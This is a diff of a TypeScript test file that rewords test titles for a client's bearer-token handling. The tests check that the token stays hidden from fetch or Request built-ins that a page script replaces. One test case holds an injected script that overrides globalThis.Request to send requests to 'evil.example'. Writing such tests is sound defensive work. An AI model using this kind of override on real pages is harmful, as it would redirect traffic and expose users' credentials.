@@ -53,8 +53,8 @@ async function send({ recorder }: FlowLensClient): Promise<void> {
   await recorder.uploadOffset('u1');
 }
 
-describe('the token of a client', () => {
-  it('is seen by no built-in that a script replaces after the client took fetch', async () => {
+describe('the client’s token', () => {
+  it('stays hidden from built-ins that a script replaces after the client took fetch', async () => {
     const { page, client, sent } = await openClient((_page, fetch) => ({ fetch }));
     const sightings = install(page);
 
@@ -66,7 +66,7 @@ describe('the token of a client', () => {
     expect(tokens.filter((one) => one === `Bearer ${FRESH}`)).toHaveLength(6);
   });
 
-  it('is seen by the replaced fetch of a client that took none', async () => {
+  it('is visible to a replaced fetch when the client took none', async () => {
     const { page, client, answer } = await openClient(() => ({}));
     page.window.fetch = (request) => answer(request as Request);
     const sightings = install(page);
@@ -94,7 +94,7 @@ describe('the token of a client', () => {
       SERVER,
       `{ const { Request } = globalThis; globalThis.Request = function () { return new Request("https://evil.example/"); }; }`,
     ],
-  ])('goes to no other server when a script makes the page ask for %s', async (_what, baseUrl, script) => {
+  ])('goes to no other server when a script makes the page request %s', async (_what, baseUrl, script) => {
     const { page, client, sent } = await openClient((_page, fetch) => ({ fetch, baseUrl }));
     page.run(`${script} 0`);
 
